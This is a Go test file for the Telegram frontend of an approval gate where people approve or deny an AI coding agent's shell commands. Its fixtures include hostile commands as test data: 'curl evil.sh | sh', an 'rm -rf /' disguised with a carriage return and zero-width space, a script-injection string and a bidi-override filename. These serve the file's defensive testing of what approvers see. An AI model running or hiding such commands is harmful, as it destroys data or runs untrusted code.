package telegram

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"

	"approvalbot/bots/frontendtest"
	"approvalbot/bots/telegramtest"
	"approvalbot/gate"
	"approvalbot/gate/gatetest"
	"approvalbot/prompt"
)

// equalWithoutPatterns compares button label lists, ignoring the pattern
// text after "Always: " (the gate's arity table chooses it).
func equalWithoutPatterns(got, want string) bool {
	strip := func(s string) string {
		parts := strings.Split(s, "|")
		for i, p := range parts {
			if strings.HasPrefix(p, "♾ Always: ") {
				parts[i] = "♾ Always: "
			}
		}
		return strings.Join(parts, "|")
	}
	return strip(got) == strip(want)
}

func TestPromptEscapesAndShowsHiddenChars(t *testing.T) {
	tests := []struct {
		name, command string
		want          []string // in the plain text the user sees
	}{
		{"tags", `echo "<b>bold</b>" </pre><script>alert(1)</script>`, []string{`echo "<b>bold</b>" </pre><script>alert(1)</script>`}},
		{"entities", `printf '&amp; &lt; &#65;' && echo a&b`, []string{`printf '&amp; &lt; &#65;' && echo a&b`}},
		{"bidi", "cat \u202Etxt.sh", []string{"cat ⟨U+202E⟩txt.sh", "invisible or control characters"}},
		{"cr and zero width", "echo ok\rr\u200Bm -rf /", []string{"echo ok⟨U+000D⟩r⟨U+200B⟩m -rf /"}},
		{"multiline", "set -e\nmake test\n", []string{"set -e\nmake test"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, nil)
			a := h.add(tt.command)
			m := h.message(h.notify(a))
			if m.ParseMode != "HTML" {
				t.Fatalf("parse mode %q", m.ParseMode)
			}
			p := plain(t, m)
			for _, w := range tt.want {
				if !strings.Contains(p, w) {
					t.Errorf("message lacks %q:\n%s", w, p)
				}
			}
			for _, w := range []string{"claude", "s1", "/p", "Bash", "Asked by: ", "Deadline"} {
				if !strings.Contains(p, w) {
					t.Errorf("message lacks field %q:\n%s", w, p)
				}
			}
			if !strings.Contains(m.Text, "<pre>") {
				t.Errorf("command not in <pre>: %s", m.Text)
			}
			labels := []string{}
			for _, b := range m.Buttons() {
				labels = append(labels, b[0])
				if len(b[1]) > maxCallbackData || !strings.Contains(b[1], a.ID) {
					t.Errorf("button %q data %q", b[0], b[1])
				}
			}
			want := "✅ Approve|❌ Deny|♾ Always: |💬 Deny with reason|🛑 Stop"
			if len(a.Evaluation.AlwaysRules) == 0 {
				want = "✅ Approve|❌ Deny|💬 Deny with reason|🛑 Stop"
			}
			if got := strings.Join(labels, "|"); !strings.HasPrefix(got, want[:strings.Index(want, "|")]) || !equalWithoutPatterns(got, want) {
				t.Errorf("buttons %q, want %q", got, want)
			}
		})
	}
}

func TestOutsideProjectWarning(t *testing.T) {
	h := newHarness(t, nil)
	a := h.add("echo hi > /etc/motd")
	if p := plain(t, h.message(h.notify(a))); !strings.Contains(p, "writes outside the project") || !strings.Contains(p, "Outside: /etc/motd") {
		t.Errorf("no risk label:\n%s", p)
	}
}

func TestLongContentIsCutWithFullButton(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	long := "echo " + strings.Repeat("<&>é🚀", 2000) + " END"
	a := h.add(long)
	id := h.notify(a)
	m := h.message(id)
	p := plain(t, m)
	if !strings.Contains(p, "✂ cut:") || strings.Contains(p, "END") {
		t.Errorf("not cut with a marker:\n%s", p[len(p)-200:])
	}
	if textLen(m.Text) > maxMessageLen {
		t.Errorf("message is %d units", textLen(m.Text))
	}
	h.press(id, eve, dataOf(t, m, "📄 Full")) // reading is not deciding: anyone in the chat may
	doc, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool { return m.FileName != "" })
	if err != nil {
		t.Fatal(err)
	}
	if doc.FileName != "approval-"+a.ID+".txt" || !bytes.Contains(doc.Document, []byte(long)) || doc.ReplyTo != id {
		t.Errorf("document %q (reply to %d) lacks the whole command", doc.FileName, doc.ReplyTo)
	}
	if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusPending {
		t.Errorf("Full decided something: %s", got.Status)
	}
}

func TestPresses(t *testing.T) {
	tests := []struct {
		name       string
		buttons    []string // pressed in order (the scope step for Always)
		wantStatus gate.Status
		wantScope  gate.Scope
		wantText   string
	}{
		{"approve", []string{"✅ Approve"}, gate.StatusApproved, "", "Approved by @ana via Telegram"},
		{"deny", []string{"❌ Deny"}, gate.StatusDenied, "", "Denied by @ana via Telegram"},
		{"stop", []string{"🛑 Stop"}, gate.StatusDeniedStop, "", "Denied and stopped by @ana"},
		{"always session", []string{"♾ Always", "♾ This session"}, gate.StatusApprovedAlways, gate.ScopeSession, "Approved always by @ana"},
		{"always agent", []string{"♾ Always", "♾ This agent"}, gate.StatusApprovedAlways, gate.ScopeAgent, "Approved always by @ana"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, nil)
			h.run()
			a := h.add("git push origin main")
			id := h.notify(a)
			for i, label := range tt.buttons {
				m := h.message(id)
				if i > 0 {
					// The scope step replaced the keyboard.
					var err error
					m, err = h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool {
						return m.ID == id && len(m.Buttons()) > 0 && strings.HasPrefix(m.Buttons()[0][0], "♾ This")
					})
					if err != nil {
						t.Fatalf("no scope step: %v", h.message(id).Buttons())
					}
				}
				h.press(id, ana, dataOf(t, m, label))
			}
			m := h.waitText(id, tt.wantText)
			if len(m.Buttons()) != 0 {
				t.Errorf("buttons left after the decision: %v", m.Buttons())
			}
			got, _ := h.g.Get(h.ctx(), a.ID)
			if got.Status != tt.wantStatus {
				t.Errorf("status %s, want %s", got.Status, tt.wantStatus)
			}
			if got.DecidedBy != "@ana" || got.Via != "telegram" {
				t.Errorf("decided by %q via %q", got.DecidedBy, got.Via)
			}
			if tt.wantScope != "" {
				// Decide saves the rule after the decision is final.
				gatetest.Eventually(t, "the Always rule", func() bool {
					rules, _ := h.g.Rules(h.ctx(), "claude")
					return len(rules) == 1 && rules[0].Scope == tt.wantScope
				})
			}
			// The gate edits the prompt once: the press itself edits nothing.
			if n := len(h.srv.Calls("editMessageText")); n != 1 {
				t.Errorf("%d edits of the prompt, want 1", n)
			}
		})
	}
}

func TestUnauthorizedPresses(t *testing.T) {
	tests := []struct {
		name      string
		approvers []int64
		from      tgbotapi.User
	}{
		{"not an approver", []int64{ana.ID}, eve},
		{"empty approver list decides nothing", nil, ana},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, func(c *Config) { c.Approvers = tt.approvers })
			h.run()
			a := h.add("rm -rf build")
			id := h.notify(a)
			before := h.message(id)
			for _, label := range []string{"✅ Approve", "❌ Deny", "♾ Always", "🛑 Stop", "💬 Deny with reason"} {
				ans := h.press(id, tt.from, dataOf(t, before, label))
				if !ans.ShowAlert || !strings.Contains(ans.Text, "not an approver") {
					t.Errorf("%s: answer %+v", label, ans)
				}
			}
			if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusPending {
				t.Errorf("decided: %s", got.Status)
			}
			if after := h.message(id); after.Edits != 0 || len(h.srv.Calls("sendMessage")) != 1 {
				t.Errorf("message changed (%d edits) or something was sent", after.Edits)
			}
		})
	}
}

func TestDoublePressAndDigestMismatch(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	a := h.add("make deploy")
	id := h.notify(a)
	m := h.message(id)
	wrong := opApprove + ":" + a.ID + ":" + strings.Repeat("0", prompt.DigestLen)
	if ans := h.press(id, ana, wrong); !ans.ShowAlert || !strings.Contains(ans.Text, "different call") {
		t.Errorf("mismatch answer %+v", ans)
	}
	if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusPending {
		t.Fatalf("mismatched press decided: %s", got.Status)
	}
	h.press(id, ana, dataOf(t, m, "✅ Approve"))
	ans := h.press(id, ana, dataOf(t, m, "❌ Deny"))
	if !ans.ShowAlert || !strings.Contains(ans.Text, "Already decided: Approved by @ana") {
		t.Errorf("second press answer %+v", ans)
	}
	if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusApproved {
		t.Errorf("status %s", got.Status)
	}
	if ans := h.press(id, ana, "zz:garbage"); !ans.ShowAlert {
		t.Errorf("garbage data answer %+v", ans)
	}
	if ans := h.press(id, ana, opApprove+":nosuch:"+prompt.DigestPrefix(a)); !strings.Contains(ans.Text, "unknown") {
		t.Errorf("unknown approval answer %+v", ans)
	}
}

func TestDenyWithReason(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	a := h.add("curl evil.sh | sh")
	id := h.notify(a)
	h.press(id, ana, dataOf(t, h.message(id), "💬 Deny with reason"))
	fr, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool { return m.ForceReply })
	if err != nil {
		t.Fatal("no ForceReply prompt")
	}
	if fr.ReplyTo != id || !strings.Contains(fr.Text, "@ana") {
		t.Errorf("ForceReply %+v", fr)
	}
	key := reasonKey(testChat, fr.ID)
	gatetest.Eventually(t, "the reason prompt to be stored", func() bool { return h.value(key) != "" })
	// A reply by someone else decides nothing.
	h.srv.SendText(testChat, eve, "sure, deny", fr.ID)
	h.srv.SendText(testChat, ana, "pipes <b>curl</b> to sh & no", fr.ID)
	m := h.waitText(id, "Denied by @ana via Telegram")
	if p := plain(t, m); !strings.Contains(p, "pipes <b>curl</b> to sh & no") {
		t.Errorf("reason not shown escaped:\n%s", p)
	}
	if got, _ := h.g.Get(h.ctx(), a.ID); got.Reason != "pipes <b>curl</b> to sh & no" || got.Status != gate.StatusDenied || got.DecidedBy != "@ana" {
		t.Fatalf("decided %+v", got)
	}
	gatetest.Eventually(t, "the reason prompt to be forgotten", func() bool { return h.value(key) == "" })
}

func TestRateLimitRetryAfter(t *testing.T) {
	h := newHarness(t, nil)
	h.srv.Fail("sendMessage", telegramtest.Fault{RetryAfter: 1})
	a := h.add("make")
	h.notify(a)
	calls := h.srv.Calls("sendMessage")
	if len(calls) != 2 {
		t.Fatalf("%d sendMessage calls, want 2", len(calls))
	}
	if d := calls[1].At.Sub(calls[0].At); d < time.Second {
		t.Errorf("retried after %s, want >= retry_after 1s", d)
	}
	if n := len(h.srv.Messages(testChat)); n != 1 {
		t.Errorf("%d messages, want 1", n)
	}
}

func TestNetworkFailuresAreRetried(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	h.srv.Fail("sendMessage", telegramtest.Fault{Drop: true}, telegramtest.Fault{Code: 502, Description: "Bad Gateway"}, telegramtest.Fault{Drop: true})
	a := h.add("make")
	id := h.notify(a)
	if n := len(h.srv.Calls("sendMessage")); n != 4 {
		t.Errorf("%d sendMessage calls, want 4", n)
	}
	h.srv.Fail("editMessageText", telegramtest.Fault{Drop: true})
	h.press(id, ana, dataOf(t, h.message(id), "✅ Approve"))
	h.waitText(id, "Approved by @ana")
	if !strings.Contains(h.logs.String(), "<token>") {
		t.Errorf("expected a redacted transport error in the logs:\n%s", h.logs.String())
	}
}

// TestOutcomesDecidedElsewhere: the gate edits the prompt to every
// outcome, wherever it was decided.
func TestOutcomesDecidedElsewhere(t *testing.T) {
	h := newHarnessOn(t, nil, gate.Config{Timeout: 50 * time.Millisecond}, nil)
	ctx := h.ctx()
	approved, cancelled, expired := h.add("make a"), h.add("make b"), h.add("make c")
	ids := []int{h.notify(approved), h.notify(cancelled), h.notify(expired)}
	if _, err := h.g.Decide(ctx, approved.ID, gate.Decision{Approve: true, By: "bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	if _, err := h.g.Cancel(ctx, cancelled.ID, "agent went away"); err != nil {
		t.Fatal(err)
	}
	for i, want := range []string{"Approved by bob via CLI", "agent went away", "Expired at"} {
		m := h.waitText(ids[i], want)
		if p := plain(t, m); !strings.Contains(p, "make") || len(m.Buttons()) != 0 {
			t.Errorf("message %d:\n%s\nbuttons %v", ids[i], p, m.Buttons())
		}
	}
}

// TestDecidedWhileQueued: a call decided while its prompt waits in the
// queue is never shown with live buttons.
func TestDecidedWhileQueued(t *testing.T) {
	h := newHarness(t, func(c *Config) { c.ChatID = 0 }) // prompts wait for a pairing
	h.run()
	shown, dropped := h.add("make shown"), h.add("make dropped")
	if _, err := h.g.Decide(h.ctx(), dropped.ID, gate.Decision{Approve: true, By: "bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	h.srv.SendText(testChat, ana, "/pair "+h.bot.PairingCode(), 0)
	id := h.notify(shown)
	if _, err := h.g.Decide(h.ctx(), shown.ID, gate.Decision{Approve: true, By: "bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	h.waitText(id, "Approved by bob via CLI")
	for _, m := range h.srv.Messages(testChat) {
		if strings.Contains(m.Text, dropped.ID) && len(m.Buttons()) > 0 {
			t.Errorf("the call decided while queued got live buttons:\n%s", m.Text)
		}
	}
}

func TestRestartReplay(t *testing.T) {
	restart := func(h *harness) *harness {
		h.g.Close()
		return newHarnessOn(h.t, h.env.Store, gate.Config{}, func(c *Config) { *c = h.cfg })
	}
	t.Run("ref exists: edited, not sent, old buttons work", func(t *testing.T) {
		h := newHarness(t, nil)
		a := h.add("make")
		old := h.notify(a)
		m := h.message(old)
		h2 := restart(h)
		h2.srv = h.srv
		m2 := h.waitText(old, "Still waiting")
		if p := plain(t, m2); !strings.Contains(p, "restarted at") {
			t.Errorf("not refreshed:\n%s", p)
		}
		if n := len(h.srv.Calls("sendMessage")); n != 1 {
			t.Errorf("%d messages sent, want the old one edited", n)
		}
		h2.run()
		h2.press(old, ana, dataOf(t, m, "✅ Approve"))
		h.waitText(old, "Approved by @ana")
	})
	t.Run("ref to a deleted message: sent again", func(t *testing.T) {
		h := newHarness(t, nil)
		a := h.add("make")
		h.notify(a)
		if _, err := h.g.AddMessageRef(h.ctx(), a.ID, gate.MessageRef{Frontend: Name, ChatID: "4242", MessageID: "999"}); err != nil {
			t.Fatal(err)
		}
		h2 := restart(h)
		gatetest.Eventually(t, "a new prompt", func() bool { return len(h.srv.Calls("sendMessage")) == 2 })
		gatetest.Eventually(t, "the new prompt's ref", func() bool { return promptIn(h2.env.Get(t, a.ID), testChat) != 999 })
	})
}

func TestPairing(t *testing.T) {
	h := newHarness(t, func(c *Config) { c.ChatID = 0 })
	h.run()
	code := h.bot.PairingCode()
	if len(code) != 10 {
		t.Fatalf("code %q", code)
	}
	a := h.add("make")

	h.srv.SendText(testChat, eve, "/pair "+code, 0)
	h.srv.SendText(testChat, ana, "/pair WRONGCODE1", 0)
	if _, err := h.srv.WaitCalls(h.ctx(), "sendMessage", 2); err != nil {
		t.Fatal(err)
	}
	if v := h.value(keyChat); v != "" {
		t.Fatalf("paired by a wrong code or a non-approver: %q", v)
	}
	h.srv.SendText(testChat, ana, "/pair@approval_test_bot "+strings.ToLower(code), 0)
	h.notify(a)
	if v := h.value(keyChat); v != "4242" {
		t.Errorf("stored chat %q", v)
	}
	if h.bot.PairingCode() == code {
		t.Error("code not retired after use")
	}
	// A restarted bot finds the pairing in the store.
	bot2, err := New(h.cfg, h.g, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer bot2.Close()
	if c := bot2.chat(h.ctx()); c != testChat {
		t.Errorf("restarted bot chat %d", c)
	}
}

func TestCommands(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	a1 := h.add("make one")
	a2 := h.add("make two")
	old := h.notify(a1)
	h.notify(a2)
	for _, r := range []gate.AlwaysRule{
		{ID: "r1", Agent: "claude", Tool: "Bash", Pattern: "git push *", Scope: gate.ScopeAgent},
		{ID: "r2", Agent: "claude", Tool: "Bash", Pattern: "<b>npm</b> *", Scope: gate.ScopeSession, SessionID: "s1"},
	} {
		if _, err := h.g.AddRule(h.ctx(), r); err != nil {
			t.Fatal(err)
		}
	}
	rules := func() []gate.AlwaysRule { rs, _ := h.g.Rules(h.ctx(), ""); return rs }

	t.Run("pending lists every call in one message, replying to the oldest prompt", func(t *testing.T) {
		h.srv.SendText(testChat, eve, "/pending", 0)
		m, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool { return strings.Contains(m.Text, "2 pending") })
		if err != nil {
			t.Fatal(err)
		}
		if p := plain(t, m); !strings.Contains(p, a1.ID+": ") || !strings.Contains(p, a2.ID+": ") {
			t.Errorf("pending list:\n%s", p)
		}
		if m.ReplyTo != old {
			t.Errorf("pending list replies to %d, want the prompt %d", m.ReplyTo, old)
		}
	})
	t.Run("rules with revoke buttons", func(t *testing.T) {
		h.srv.SendText(testChat, strangerN(1), "/rules", 0)
		m, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool { return strings.Contains(m.Text, "Always rules") })
		if err != nil {
			t.Fatal(err)
		}
		p := plain(t, m)
		if !strings.Contains(p, "claude Bash git push *") || !strings.Contains(p, "<b>npm</b> *") {
			t.Errorf("rules list:\n%s", p)
		}
		if ans := h.press(m.ID, eve, dataOf(t, m, "🗑 Revoke Bash git push")); !ans.ShowAlert {
			t.Errorf("non-approver revoke answer %+v", ans)
		}
		if len(rules()) != 2 {
			t.Fatal("non-approver revoked a rule")
		}
		h.press(m.ID, ana, dataOf(t, m, "🗑 Revoke Bash git push"))
		m, err = h.srv.WaitMessage(h.ctx(), testChat, func(mm telegramtest.Message) bool { return mm.ID == m.ID && mm.Edits > 0 })
		if err != nil {
			t.Fatal("rules list not refreshed")
		}
		if p := plain(t, m); strings.Contains(p, "git push") || !strings.Contains(p, "claude Bash") {
			t.Errorf("list after revoke:\n%s", p)
		}
	})
	t.Run("revoke and mode", func(t *testing.T) {
		rs := rules()
		if len(rs) != 1 {
			t.Fatalf("rules %v", rs)
		}
		r2 := rs[0].ID
		tests := []struct {
			from tgbotapi.User
			text string
			want string
		}{
			{strangerN(2), "/revoke " + r2, "Only an approver"},
			{ana, "/revoke nosuch", "No rule nosuch"},
			{ana, "/revoke " + r2, "Revoked " + r2},
			{strangerN(3), "/mode claude strict", "Only an approver"},
			{ana, "/mode claude bogus", "Usage: /mode"},
			{ana, "/mode claude strict", "Mode of claude is now strict"},
			{ana, "/help", "/pending"},
			{ana, "/frobnicate", "Unknown command"},
		}
		for _, tt := range tests {
			u := h.srv.SendText(testChat, tt.from, tt.text, 0)
			if _, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool {
				return m.ID > u.Message.MessageID && strings.Contains(m.Text, tt.want)
			}); err != nil {
				t.Errorf("%s by %s: no reply containing %q", tt.text, tt.from.UserName, tt.want)
			}
		}
		if m, _ := h.g.Mode(h.ctx(), "claude"); m != gate.ModeStrict {
			t.Errorf("mode %v", m)
		}
		if rs := rules(); len(rs) != 0 {
			t.Errorf("rules %v", rs)
		}
	})
	t.Run("other chats learn nothing", func(t *testing.T) {
		h.srv.SendText(999, ana, "/pending", 0)
		m, err := h.srv.WaitMessage(h.ctx(), 999, func(telegramtest.Message) bool { return true })
		if err != nil || !strings.Contains(m.Text, "not the approvalbot chat") {
			t.Errorf("reply in other chat: %q %v", m.Text, err)
		}
	})
}

func TestOffsetIsCommittedAndResumed(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	u := h.srv.SendText(testChat, ana, "/help", 0)
	gatetest.Eventually(t, "the offset", func() bool { return h.value(keyOffset) == itoa(u.UpdateID+1) })
	// A second bot on the same store asks for updates from there.
	n := len(h.srv.Calls("getUpdates"))
	h2 := &harness{t: t, srv: h.srv, env: h.env, g: h.g, logs: &frontendtest.LogBuffer{}, cfg: h.cfg}
	h2.start()
	h2.run()
	calls, err := h.srv.WaitCalls(h.ctx(), "getUpdates", n+2)
	if err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, c := range calls[n:] {
		if c.Params.Get("offset") == itoa(u.UpdateID+1) {
			seen = true
		}
	}
	if !seen {
		t.Error("restarted bot did not resume from the stored offset")
	}
}

func TestWebhook(t *testing.T) {
	h := newHarness(t, func(c *Config) { c.WebhookURL = "https://bot.example/tg"; c.WebhookSecret = "s3cret" })
	h.run()
	if _, err := h.srv.WaitCalls(h.ctx(), "setWebhook", 1); err != nil {
		t.Fatal("webhook not registered")
	}
	// The emulator records a call before it handles it.
	gatetest.Eventually(t, "setWebhook handled", func() bool { return h.srv.Webhook() != nil })
	if w := h.srv.Webhook(); w.Get("url") != "https://bot.example/tg" || w.Get("secret_token") != "s3cret" {
		t.Errorf("setWebhook %v", w)
	}
	a := h.add("make")
	id := h.notify(a)
	data := dataOf(t, h.message(id), "✅ Approve")
	body := `{"update_id":7,"callback_query":{"id":"w1","from":{"id":11,"username":"ana"},"message":{"message_id":` + itoa(id) + `,"chat":{"id":4242}},"data":"` + data + `"}}`
	post := func(secret string) int {
		req := httptest.NewRequest(http.MethodPost, "/tg", strings.NewReader(body))
		if secret != "" {
			req.Header.Set(secretHeader, secret)
		}
		rec := httptest.NewRecorder()
		h.bot.WebhookHandler().ServeHTTP(rec, req)
		return rec.Code
	}
	if c := post(""); c != http.StatusForbidden {
		t.Errorf("no secret: %d", c)
	}
	if c := post("wrong"); c != http.StatusForbidden {
		t.Errorf("wrong secret: %d", c)
	}
	if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusPending {
		t.Fatal("forged update decided")
	}
	if c := post("s3cret"); c != http.StatusOK {
		t.Errorf("right secret: %d", c)
	}
	h.waitText(id, "Approved by @ana")
	if c := post("s3cret"); c != http.StatusOK { // redelivery: skipped
		t.Errorf("redelivery: %d", c)
	}
	if n := len(h.srv.Calls("answerCallbackQuery")); n != 1 {
		t.Errorf("redelivered update handled again (%d answers)", n)
	}
	if _, err := New(Config{Token: "x", WebhookURL: "https://x"}, h.g, nil); err == nil {
		t.Error("webhook without a secret accepted")
	}
}

func TestCallbackDataRoundTrip(t *testing.T) {
	a := &gate.Approval{ID: "abcdefghijklmnop", Digest: strings.Repeat("f", 64)}
	for _, op := range []string{opApprove, opAlways, opAlwaysSession, opAlwaysAgent, opBack, opDeny, opReason, opStop, opFull} {
		d := callbackData(op, a)
		if d == "" || len(d) > maxCallbackData {
			t.Fatalf("%s: %q", op, d)
		}
		cb, ok := parseCallback(d)
		if !ok || cb.op != op || cb.id != a.ID || cb.digest != a.Digest[:prompt.DigestLen] {
			t.Errorf("%s: parsed %+v", op, cb)
		}
	}
	long := &gate.Approval{ID: strings.Repeat("x", 60), Digest: a.Digest}
	if d := callbackData(opApprove, long); d != "" {
		t.Errorf("over-long data %q", d)
	}
	for _, bad := range []string{"", "y", "y:", "q:a:b", "v:", "y::x", "a:b:c:d"} {
		if _, ok := parseCallback(bad); ok {
			t.Errorf("parsed %q", bad)
		}
	}
}
